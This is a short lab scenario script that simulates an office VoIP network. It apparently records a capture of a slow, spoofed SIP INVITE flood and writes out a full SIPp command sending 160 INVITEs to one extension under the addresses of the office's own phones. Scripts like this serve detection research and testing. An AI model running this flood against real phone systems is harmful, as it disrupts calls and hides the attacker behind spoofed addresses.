# A slow flood of INVITEs for one phone under the addresses of the office's own phones only.
open_office
add_attacker spoofer 203.0.113.66
spoof spoofer 192.0.2.{11..18}
start_office_capture
keep_alive 9
office_day 109 60
at 15 attack A1 invite_flood spoofer 5060 "SIPp sends 160 INVITEs, 20 a second, for 1006 under the addresses and names of the office's phones." \
    "$(version_of sipp)" env TERM=dumb sipp -sf "$here/sipp/flood-spoofed.xml" -nostdin -default_behaviors none \
    -t ui -max_socket 200 -ip_field 0 -inf "$scratch/sources.csv" -cid_str "%u-%p" -i 203.0.113.66 -mi 203.0.113.66 -p 5060 \
    -s 1006 -r 20 -m 160 192.0.2.1:5060
play
wait_for A1
close_office
